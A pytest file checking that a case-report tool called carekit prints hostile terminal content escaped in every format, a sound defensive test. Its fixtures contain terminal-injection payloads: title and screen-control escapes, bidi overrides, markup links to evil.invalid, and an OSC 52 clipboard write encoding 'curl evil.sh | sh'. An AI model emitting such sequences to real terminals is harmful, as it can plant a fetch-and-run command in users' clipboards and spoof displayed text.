"""Attacks on the terminal: draft text that is a command to the terminal, or that breaks
the report's layout.

A title, key name, reason or file name may hold ESC sequences (window title, OSC 52
clipboard write, screen clear), C1 controls, carriage returns, bidirectional overrides
and rich markup. Whatever the output format, none of it may reach stdout or stderr raw;
it is shown as visible escapes (\\x1b, \\u202e). A title written as a `|` block (line
breaks, tabs) is an ordinary draft and must not crash any report.
"""

from __future__ import annotations

import json
import re
import sys
import unicodedata

import pytest

from conftest import carekit

# What must never be printed raw: C0 controls but tab and line feed, DEL, C1 controls,
# bidirectional controls, zero-width characters. Spelt out here, not taken from carekit.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]"
)
COLOUR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own styling, allowed with a forced colour

HOSTILE_TITLE = (
    "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[H\x9b31m"
    "Case\u202e report\u200b [red]red[/red] [link=https://evil.invalid]x[/link] 50%:: a,b\r"
)
HOSTILE_DRAFT = (
    "carekit: 1\n"
    'title: "\\e]0;pwned\\a\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a\\e[2J\\e[H\\x9b31m'
    'Case\\u202e report\\u200b [red]red[/red] [link=https://evil.invalid]x[/link] 50%:: a,b\\r"\n'
    '"unknown\\e[2J\\e]0;key\\a\\u202e": 1\n'
    "not_reported:\n"
    '  timeline: "\\e[31mNot done\\x85\\e]8;;https://evil.invalid\\e\\\\link\\e]8;;\\e\\\\"\n'
    "clinical_findings: A rash.\n"
)
FILE_NAME = "case\x1b[2J\x1b]0;title\x07\u202e.yaml"
FORMATS = ("text", "json", "sarif", "github")


def _inert(text: str, colour: bool = False) -> None:
    if colour:
        text = COLOUR.sub("", text)
    found = FORBIDDEN.search(text)
    assert found is None, (
        f"raw {found[0]!r} printed: ...{text[max(0, found.start() - 60) :][:120]!r}"
    )


@pytest.fixture
def hostile(tmp_path):
    draft = tmp_path / FILE_NAME
    draft.write_text(HOSTILE_DRAFT, encoding="utf-8")
    return draft


@pytest.mark.parametrize("form", FORMATS)
def test_no_format_prints_control_characters_raw(hostile, form):
    run = carekit("check", "-f", form, str(hostile), cwd=hostile.parent)
    assert run.code == 1, run.err
    _inert(run.out)
    _inert(run.err)
    if form in ("json", "sarif"):
        return
    # Shown where the author can find them, not dropped.
    assert "case\\x1b[2J\\x1b]0;title\\x07\\u202e.yaml" in run.out  # the file name
    assert "unknown\\x1b[2J\\x1b]0;key\\x07\\u202e" in run.out  # the unknown key
    if form == "text":  # the title and the reason, which the text report shows
        assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in run.out
        assert "\\x1b[31mNot done\\x85" in run.out


def test_json_and_sarif_keep_the_exact_text(hostile):
    data = carekit("check", "-f", "json", str(hostile), cwd=hostile.parent).json()
    assert data["files"][0]["title"] == HOSTILE_TITLE
    assert data["files"][0]["file"] == FILE_NAME
    assert any("unknown\x1b[2J" in f["message"] for f in data["files"][0]["findings"])
    sarif = json.loads(carekit("check", "-f", "sarif", str(hostile), cwd=hostile.parent).out)
    uris = {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for r in sarif["runs"][0]["results"]
    }
    assert uris == {FILE_NAME}


def test_forced_colour_prints_markup_literally_and_nothing_raw(hostile):
    """rich renders the report on a terminal (FORCE_COLOR stands in for one)."""
    run = carekit("check", str(hostile), cwd=hostile.parent, env={"FORCE_COLOR": "1"})
    assert run.code == 1, run.err
    assert COLOUR.search(run.out), "rich did not render: the test would prove nothing"
    _inert(run.out, colour=True)
    plain = COLOUR.sub("", run.out)
    assert "[red]red[/red]" in plain and "[link=https://evil.invalid]x[/link]" in plain
    assert "\x1b]8;" not in run.out  # no hyperlink made from the draft's markup


def test_github_annotations_cannot_be_split_or_forged(hostile):
    run = carekit("check", "-f", "github", str(hostile), cwd=hostile.parent)
    findings = carekit("check", "-f", "json", str(hostile), cwd=hostile.parent).json()
    lines = run.out.splitlines()
    assert len(lines) == len(findings["files"][0]["findings"])  # one command per finding
    for line in lines:
        assert re.match(r"::(error|warning|notice) file=[^,:]*,line=\d+,col=\d+,", line), line
        properties = line.split("::")[1]
        assert properties.count(",") == 5  # a comma or colon in a value is %2C / %3A
    file = re.match(r"::\w+ file=([^,]*),", lines[0])[1]
    decoded = re.sub(r"%([0-9A-F]{2})", lambda m: chr(int(m[1], 16)), file)
    assert decoded == "case\\x1b[2J\\x1b]0;title\\x07\\u202e.yaml"


def test_title_with_line_breaks_and_tabs_in_every_format(write_draft):
    """An ordinary draft: a `|` block title and a multi-line reason crashed the text
    report ("internal error: substring not found")."""
    draft = write_draft(
        "carekit: 1\ntitle: |\n  Calcinosis cutis\n  in an\tinfant: a case report\n"
        'not_reported:\n  timeline: "Not\\tapplicable:\\nsingle visit"\n'
    )
    for form in (*FORMATS, "auto"):
        run = carekit("check", "-f", form, str(draft))
        assert run.code == 1 and "internal error" not in run.err, (form, run.err)
        _inert(run.out)
    text = carekit("check", str(draft)).out
    assert "Calcinosis cutis in an infant: a case report" in text
    assert "Not applicable: single visit" in text
    coloured = carekit("check", str(draft), env={"FORCE_COLOR": "1"})
    assert coloured.code == 1 and "Calcinosis cutis in an infant" in COLOUR.sub("", coloured.out)


def test_pre_commit_style_run_with_hostile_and_block_titles(write_draft, hostile):
    plain = write_draft("carekit: 1\ntitle: |\n  A\tcase\n  report\n", name="plain.yaml")
    other = hostile.parent / "notes.yaml"
    other.write_text("not: a draft\n", encoding="utf-8")
    run = carekit(
        "check", "--only-drafts", str(plain), str(other), str(hostile), cwd=hostile.parent
    )
    assert run.code == 1 and "internal error" not in run.err, run.err
    _inert(run.out)
    _inert(run.err)
    assert "A case report" in run.out


def test_submit_writes_the_findings_of_a_block_title(write_draft, tmp_path):
    draft = write_draft("carekit: 1\ntitle: |\n  A case\n  of\tcalcinosis\n")
    refused = carekit("submit", "-o", str(tmp_path / "pack"), str(draft))
    assert refused.code == 1 and "internal error" not in refused.err
    run = carekit("submit", "--force", "-o", str(tmp_path / "pack"), str(draft))
    assert run.code == 0, run.err
    assert "A case of calcinosis" in (tmp_path / "pack" / "findings.txt").read_text()


def test_submit_of_a_hostile_draft_prints_nothing_raw_on_stderr(hostile, tmp_path):
    run = carekit("submit", "-o", str(tmp_path / "pack"), str(hostile), cwd=hostile.parent)
    assert run.code == 1
    _inert(run.err)
    assert "case\\x1b[2J" in run.err


@pytest.mark.parametrize(
    "command",
    [
        ("render", "--to", "md"),
        ("checklist", "--to", "md"),
        ("fmt", "--check"),
        ("fmt",),
    ],
)
def test_every_command_prints_file_names_escaped(hostile, command):
    """Not only the reports: "wrote ...", fmt's summaries and the like name the draft too."""
    run = carekit(*command, str(hostile), cwd=hostile.parent)
    assert run.code in (0, 1), run.err
    _inert(run.out)
    _inert(run.err)
    assert "case\\x1b[2J" in run.out + run.err


@pytest.mark.parametrize(
    "arguments",
    [
        ("check", "missing\x1b]0;x\x07\u202e.yaml"),  # a file that does not exist
        ("check", "--select", "rule\x1b[2J", "x.yaml"),  # an unknown rule ID
        ("check", "--\x1b[2Joption", "x.yaml"),  # argparse's "unrecognized arguments"
        ("render", "missing\x1b]52;c;eA==\x07.yaml"),
    ],
)
def test_error_messages_escape_what_was_typed(tmp_path, arguments):
    run = carekit(*arguments, cwd=tmp_path)
    assert run.code == 2
    _inert(run.out)
    _inert(run.err)
    assert "\\x1b" in run.out + run.err  # what was typed is shown, escaped


def test_the_escaped_characters_cover_every_format_character():
    """carekit spells the invisible characters out; the running Python's Unicode data
    must not know one it lacks (Cf, Zl, Zp: format characters and separators)."""
    from carekit.invisible import UNSEEN_RE

    missing = [
        f"U+{code:04X}"
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in ("Cf", "Zl", "Zp", "Cc")
        and chr(code) not in "\t\n"
        and not UNSEEN_RE.match(chr(code))
    ]
    assert missing == []
